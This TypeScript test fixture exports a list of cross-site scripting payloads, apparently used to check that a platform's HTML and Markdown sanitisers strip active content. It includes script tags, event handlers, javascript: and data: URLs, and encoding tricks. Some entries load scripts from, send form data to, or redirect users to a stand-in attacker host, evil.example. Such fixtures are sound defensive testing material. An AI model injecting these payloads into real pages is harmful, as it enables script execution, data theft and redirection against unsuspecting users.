/**
 * What an attacker types where the platform keeps text that is shown as HTML (a post, a reply, a blog post, a
 * home block): Markdown or HTML, none may leave an active element or address in what the service stores or
 * returns. Each service checks its output against its own allow-list.
 */
export const XSS_PAYLOADS = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<img src=x onerror=alert(1)>',
  '<body onload=alert(1)>',
  '<div onmouseover="alert(1)">hover</div>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<a href="javascript:alert(1)">x</a>',
  '[click](javascript:alert(1))',
  '[click](JaVaScRiPt:alert(1))',
  '[click](  javascript:alert(1))',
  '[click](&#106;avascript:alert(1))',
  '[click](java%0ascript:alert(1))',
  '[click](vbscript:msgbox(1))',
  '[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '![img](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)',
  '![x](https://evil.example/pixel.gif)',
  '[x](//evil.example)',
  '<javascript:alert(1)>',
  '<a href="x" onclick="alert(1)">x</a>',
  '"><script>alert(1)</script>',
  '<scr<script>ipt>alert(1)</script>',
  '<style>body{background:url("javascript:alert(1)")}</style>',
  '<form action="https://evil.example"><input name=x></form>',
  '<object data="javascript:alert(1)"></object>',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '[x](https://ok.example "title" onclick=alert(1))',
  '<<img src=x onerror=alert(1)//<',
];
